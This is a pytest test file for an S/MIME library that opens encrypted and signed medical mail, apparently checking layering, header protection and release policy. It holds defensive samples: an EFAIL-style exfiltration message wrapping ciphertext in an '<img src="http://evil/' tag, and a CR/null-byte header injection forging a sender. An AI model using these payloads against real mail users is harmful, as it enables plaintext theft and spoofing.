"""What peers send is opened; what may be released is, and nothing else."""

import re

import pytest

from medmail_cli.cms import enveloped, signed
from medmail_cli.smime import compose
from medmail_cli.smime.open import Opened
from medmail_cli.smime.policy import Policy
from medmail_cli.smime.protect import sign_only
from tests.support.letters import (
    FILE,
    NOW,
    OUTER,
    TEXT,
    codes,
    encrypt,
    entity,
    letter,
    opened,
    person,
    sealed,
    sign,
)


def notes(result: Opened) -> list[str]:
    return [note.code for note in result.verdict.notes if note.code != "revocation-unknown"]


# --- layers ------------------------------------------------------------------------------------------------


def test_a_letter_without_header_protection_takes_its_headers_from_outside() -> None:
    result = opened(OUTER + encrypt(sign(TEXT)))
    assert result.verdict.trusted
    assert notes(result) == ["headers-unprotected"]
    assert result.verdict.headers.subject == "outside"
    assert not result.verdict.headers.protected
    assert result.verdict.text == "Hello\n"
    assert b"Subject: outside" in result.eml()


def test_triple_wrapping_is_judged_by_the_inner_signature() -> None:
    raw = OUTER + sign(encrypt(sign(TEXT)), "mallory", detached=True)
    result = opened(raw)
    assert result.verdict.layers == ("signed", "encrypted", "signed")
    assert result.verdict.trusted


def test_a_signature_outside_the_encryption_earns_nothing() -> None:
    result = opened(OUTER + sign(encrypt(TEXT)))
    assert codes(result) == ["no-signature"]
    assert result.verdict.signature.status == "none"


def test_plain_mail_is_shown_and_not_believed() -> None:
    result = opened(OUTER + TEXT)
    assert (codes(result), result.verdict.exit) == (["no-signature"], 5)
    assert notes(result) == ["not-encrypted", "headers-unprotected"]
    assert result.verdict.text == "Hello\n"


def test_a_saved_cms_body_without_mail_header_is_opened() -> None:
    content = compose.payload(letter(), fields=compose.header_fields(letter()))
    data = signed.sign(
        content, key=person("alice").key, certificate=person("alice").certificate, signed_at=NOW
    )
    assert opened(data).verdict.trusted


def test_a_compressed_letter_is_opened() -> None:
    import zlib

    from medmail_cli.cms import algorithms, der

    content = der.sequence(
        der.oid(algorithms.DATA), der.tlv(0xA0, der.octet_string(zlib.compress(sign(TEXT))))
    )
    compressed = der.sequence(der.integer(0), der.sequence(der.oid(algorithms.ZLIB)), content)
    data = der.sequence(der.oid(algorithms.COMPRESSED_DATA), der.tlv(0xA0, compressed))
    result = opened(OUTER + entity(data, "compressed-data"))
    assert result.verdict.layers == ("compressed", "signed")
    assert result.verdict.trusted


def test_too_many_layers_are_malformed() -> None:
    raw = TEXT
    for _ in range(12):
        raw = sign(raw)
    assert codes(opened(OUTER + raw)) == ["malformed"]


def test_line_ends_that_a_gateway_changed_are_repaired_and_told() -> None:
    raw = OUTER + sign(TEXT * 3, detached=True)
    for damaged in (
        raw.replace(b"\r\n", b"\n"),
        raw.replace(b"\r\n", b"\r\r\n"),
    ):
        result = opened(damaged)
        assert result.verdict.trusted, codes(result)
        assert "line-endings-repaired" in notes(result)


def test_a_signature_over_lf_holds_though_the_letter_was_given_crlf_on_its_way() -> None:
    """As those sign who leave out the canonical form, and no relay lets LF through."""
    made = sign(TEXT.replace(b"\r\n", b"\n"), detached=True)
    came = OUTER + re.sub(rb"\r?\n", b"\r\n", made)
    result = opened(came)
    assert result.verdict.trusted, codes(result)
    assert "line-endings-repaired" in notes(result)
    assert codes(opened(came.replace(b"Hello", b"Hallo"))) == ["bad-signature"]


def test_an_encrypted_part_among_others_is_never_opened() -> None:
    """Direct exfiltration: the attacker's HTML around somebody's ciphertext."""
    stolen = encrypt(sign(TEXT))
    raw = OUTER + (
        b'Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<img src="http://evil/'
        b"\r\n--b\r\n" + stolen + b'\r\n--b\r\nContent-Type: text/html\r\n\r\n">\r\n--b--\r\n'
    )
    result = opened(raw)
    assert result.verdict.layers == ()
    assert codes(result) == ["no-signature"]
    assert "Hello" not in (result.verdict.text or "")
    assert [a.type for a in result.verdict.attachments] == ["application/pkcs7-mime"]


def test_what_a_wrapped_message_holds_is_not_opened() -> None:
    inner = b"From: alice@medecin.test\r\nSubject: x\r\n" + encrypt(TEXT)
    result = opened(OUTER + sign(b"Content-Type: message/rfc822\r\n\r\n" + inner))
    assert result.verdict.layers == ("signed", "wrapped")
    assert result.verdict.text is None


def test_an_exported_letter_has_one_header() -> None:
    """What stands inside unmarked is no header of the letter, and a lone CR begins no line."""
    inner = b"From: carol@medecin.test\r\nContent-Type: text/plain\r\nX-Own: y\r\n\r\nHello\r\n"
    result = opened(OUTER.replace(b"outside", b"a\rFrom: eve@evil.test\0") + encrypt(sign(inner)))
    assert result.verdict.trusted
    assert result.eml() == (
        b"From: alice@medecin.test\r\nTo: bob@medecin.test\r\nSubject: a From: eve@evil.test \r\n"
        b"Content-Type: text/plain\r\nMIME-Version: 1.0\r\n\r\nHello\r\n"
    )
    bare = opened(OUTER + sign(b"Note: x\r\n"))
    assert bare.eml() == OUTER + b"\r\nNote: x\r\n"


# --- release -----------------------------------------------------------------------------------------------


def test_without_a_key_nothing_is_told() -> None:
    result = opened(sealed(), "carol")
    assert (codes(result), result.verdict.exit) == (["no-key"], 1)
    assert result.verdict.encryption.status == "failed"
    assert (result.verdict.text, result.verdict.attachments, result.content) == (None, (), None)
    assert result.verdict.headers.subject == "[...]"


def test_a_bad_signature_inside_intact_encryption_is_withheld() -> None:
    content = sign(TEXT, detached=True).replace(b"Hello", b"Hallo")
    raw = OUTER + encrypt(content)
    result = opened(raw)
    assert (codes(result), result.verdict.exit) == (["bad-signature"], 6)
    assert (result.verdict.text, result.content, result.verdict.signature.status) == (None, None, "invalid")
    shown = opened(raw, policy=Policy(show_unverified=True))
    assert (shown.verdict.text, shown.verdict.exit) == ("Hallo\n", 6)


@pytest.mark.parametrize("inner", [TEXT, sign(TEXT, "mallory")])
def test_cbc_without_a_trusted_signature_is_withheld(inner: bytes) -> None:
    raw = OUTER + encrypt(inner, cipher="aes-256-cbc")
    result = opened(raw)
    assert result.verdict.exit == 5
    assert (result.verdict.text, result.content, result.verdict.withheld) == (None, None, True)
    assert opened(raw, policy=Policy(show_unverified=True)).verdict.text == "Hello\n"


def test_gcm_without_a_trusted_signature_is_shown() -> None:
    result = opened(OUTER + encrypt(TEXT))
    assert (codes(result), result.verdict.text) == (["no-signature"], "Hello\n")


def test_cbc_is_a_note_or_a_problem_as_the_profile_says() -> None:
    raw = sealed(cipher="aes-256-cbc")
    assert "unauthenticated-encryption" in notes(opened(raw))
    strict = opened(raw, policy=Policy(unauthenticated_encryption="problem"))
    # the signature is trusted all the same: nobody changed what is shown
    assert (codes(strict), strict.verdict.text) == (["unauthenticated-encryption"], letter().body)


def test_noise_out_of_cbc_looks_like_any_other_failure() -> None:
    noise = opened(OUTER + encrypt(bytes(range(128, 256)), cipher="aes-256-cbc"))
    flipped = bytearray(enveloped.encrypt(TEXT, [person("bob").certificate], cipher="aes-256-cbc"))
    flipped[-17] ^= 0xFF  # the padding
    padding = opened(OUTER + entity(bytes(flipped), "enveloped-data"))
    assert codes(noise) == ["bad-tag"]
    assert noise.verdict == padding.verdict


def test_broken_structure_under_a_tag_that_held_is_malformed() -> None:
    result = opened(OUTER + encrypt(entity(b"\x30\x05hello", "signed-data")))
    assert (codes(result), result.verdict.exit, result.verdict.layers) == (["malformed"], 1, ("encrypted",))
    assert result.verdict.encryption.status == "ok"
    assert result.verdict.problems[0].detail == "truncated"


@pytest.mark.parametrize(
    "raw", [b"", b"\0" * 100, b"no header here", OUTER + entity(b"junk", "signed-data"), b"\x30\x80"]
)
def test_what_is_no_message_is_malformed(raw: bytes) -> None:
    result = opened(raw)
    assert (codes(result), result.verdict.exit) == (["malformed"], 1)


def test_files_come_out_as_they_went_in() -> None:
    result = opened(sealed(letter(attachments=(FILE,))))
    assert result.parts == (FILE.data,)
    (attachment,) = result.verdict.attachments
    assert attachment.size == len(FILE.data)


def test_sign_only_letters_need_no_key() -> None:
    (only,) = sign_only(letter(), signer=person("alice").signer, signed_at=NOW)
    assert opened(only.message, None).verdict.trusted
